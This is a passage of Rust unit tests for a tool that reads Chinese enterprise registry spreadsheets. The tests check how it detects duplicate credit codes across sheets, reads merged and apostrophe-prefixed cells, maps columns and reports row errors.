    const X: &str = "91500000202814256L";
    const Y: &str = "915203007097123451";
    const Z: &str = "91520300MA6DK1234U";
    let mut workbook = rust_xlsxwriter::Workbook::new();
    for (sheet_name, rows) in [
        ("新蒲片区", vec![("甲公司", X), ("乙公司", Y)]),
        ("汇川片区", vec![("丙公司", X), ("丁公司", Z), ("戊公司", Z)]),
    ] {
        let sheet = workbook.add_worksheet().set_name(sheet_name).unwrap();
        sheet.write_string(0, 0, "企业名称").unwrap();
        sheet.write_string(0, 1, "统一社会信用代码").unwrap();
        for (row, (name, code)) in (1u32..).zip(rows) {
            sheet.write_string(row, 0, name).unwrap();
            sheet.write_string(row, 1, code).unwrap();
        }
    }
    let mut batch = read(&workbook.save_to_buffer().unwrap());
    batch.set_settings(r#"{"zone": "zunyi"}"#).unwrap();
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    assert_eq!(summary(&batch)["duplicates"], 2, "丙 repeats 甲 (row 2 of the other sheet), 戊 repeats 丁");
    let export = batch.export_csv();
    let mut reader = csv::ReaderBuilder::new().from_reader(export.as_slice());
    let headers = reader.headers().unwrap().clone();
    let check = headers.iter().position(|h| h == "code check").unwrap();
    let checks: Vec<String> = reader.records().map(|record| record.unwrap()[check].to_owned()).collect();
    assert_eq!(checks, ["", "", "same credit code as row 2 of sheet 新蒲片区", "", "same credit code as row 3"]);
    // The page's list says the same: the row, and the sheet where it is another.
    let listed = table(&batch, "", "");
    let repeats: Vec<(u64, Value)> = listed["rows"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|row| !row["duplicateOf"].is_null())
        .map(|row| (row["duplicateOf"].as_u64().unwrap(), row["duplicateSheet"].clone()))
        .collect();
    assert_eq!(repeats, [(2, serde_json::json!("新蒲片区")), (3, Value::Null)], "{listed}");
}

/// A registry not seen before (issue 22): 遵义高新区's workbook
/// (tests/fixtures/batch/generate_zunyi.py), one sheet per park after a
/// summary sheet, 是否规上 merged down over each group, 企业规模 as
/// 大型/中型/小型/微型, periods of months, numbers and codes with Excel's
/// leading apostrophe, formulas' error values. Before this reading only its
/// first park's sheet was read (24 of 57 rows; 29 firms of two parks left out
/// with no word), 6 of those rows were refused (4 amounts '7207.96, 2 periods
/// 2023年12月至2026年12月), 7 codes were called invalid for the apostrophe, 规上
/// was read for 2 of its 22 firms and 企业规模 not at all. Now every sheet with
/// the header is read, each row saying its sheet, and only the three typos,
/// the blank rows and the totals are not checked.
#[test]
fn a_zunyi_workbook_of_one_sheet_per_park_reads_whole() {
    let mut batch = read(&fixture("registry-zunyi.xlsx"));
    let described = describe(&batch);
    assert_eq!(described["rows"], 57, "three parks' sheets: 24, 18 and 15 rows");
    assert_eq!(
        described["worksheets"],
        serde_json::json!([
            {"number": 2, "name": "新蒲片区", "rows": 24},
            {"number": 3, "name": "汇川片区", "rows": 18},
            {"number": 4, "name": "红花岗片区", "rows": 15}
        ]),
        "the summary sheet (汇总) has no header and is not read"
    );
    let headers = described["headers"].as_array().unwrap();
    assert_eq!(headers.last().unwrap(), "工作表", "each row's sheet, in a last column");
    let targets: Vec<Option<&str>> = described["mapping"].as_array().unwrap().iter().map(Value::as_str).collect();
    assert_eq!(
        targets,
        [
            None,
            Some("@name"),
            Some("@code"),
            Some("province"),
            Some("smallOrMediumEnterprise"),
            Some("aboveDesignatedSize"),
            Some("highTechEnterprise"),
            Some("highTechCertificateExpiry"),
            Some("revenueYuan"),
            Some("rdExpenseYuan"),
            None,
            Some("techSme"),
            Some("listedOnStarMarket"),
            None,
            None,
            None
        ],
        "注册地址 gives the province it starts with; 企业规模 is the national 划型 of 中小企业; a sheet's name is no fact"
    );
    // An address naming its province reads as it; one naming only the city states nothing.
    let addresses: Vec<(String, String)> =
        batch.values(3, 100).into_iter().map(|v| (v.value, v.read.to_owned())).collect();
    assert!(addresses.iter().any(|(v, read)| v.starts_with("贵州省遵义市") && read == "guizhou"), "{addresses:?}");
    assert!(addresses.iter().any(|(v, read)| v.starts_with("遵义市红花岗区") && read == "unknown"), "{addresses:?}");
    assert!(addresses.iter().all(|(_, read)| read != "error"), "{addresses:?}");
    // 规上 and 规下 written once over each group: every firm of the group reads it.
    let sizes: Vec<(String, usize, String)> =
        batch.values(5, 10).into_iter().map(|v| (v.value, v.count, v.read.to_owned())).collect();
    assert_eq!(
        sizes,
        [("规上".to_owned(), 43, "true".to_owned()), ("规下".to_owned(), 7, "false".to_owned())],
        "merged down: all 50 firms but the one entered again, not 5"
    );
    let scale: Vec<(String, String)> = batch.values(4, 10).into_iter().map(|v| (v.value, v.read.to_owned())).collect();
    assert!(scale.contains(&("大型".to_owned(), "false".to_owned())), "{scale:?}");
    assert!(scale.contains(&("微型".to_owned(), "true".to_owned())), "{scale:?}");
    batch.set_settings(r#"{"zone": "zunyi"}"#).unwrap();
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!(s["failed"], 9, "{s}");
    let errors: Vec<(Option<&str>, u64, u64, &str, &str)> = s["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["sheet"].as_str(),
                e["row"].as_u64().unwrap(),
                e["column"].as_u64().unwrap(),
                e["value"].as_str().unwrap(),
                e["detail"]["kind"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        errors,
        [
            (Some("新蒲片区"), 9, 8, "2025-13-01", "notADate"),
            (Some("新蒲片区"), 23, 0, "", "emptyRow"),
            (Some("新蒲片区"), 26, 1, "合计", "notAnEnterprise"),
            (Some("汇川片区"), 6, 9, "12O0", "unknown"),
            (Some("汇川片区"), 16, 0, "", "emptyRow"),
            (Some("汇川片区"), 20, 1, "合计", "notAnEnterprise"),
            (Some("红花岗片区"), 5, 7, "是否", "yesNo"),
            (Some("红花岗片区"), 13, 0, "", "emptyRow"),
            (Some("红花岗片区"), 17, 1, "合计", "notAnEnterprise"),
        ],
        "each error names its sheet, row, column and the value read"
    );
    assert_eq!(s["invalidCodes"], 0, "'91520300… is the code, Excel's text mark aside");
    assert_eq!(s["duplicates"], 1, "新蒲's first firm entered again in 红花岗's sheet");
    assert_eq!(s["formulaErrors"], 2, "#N/A in 营业收入: unknown, and counted");
    assert_eq!(s["zoneFromFile"], 48);
    assert_eq!(s["expiredCertificates"], 11, "{s}");
}
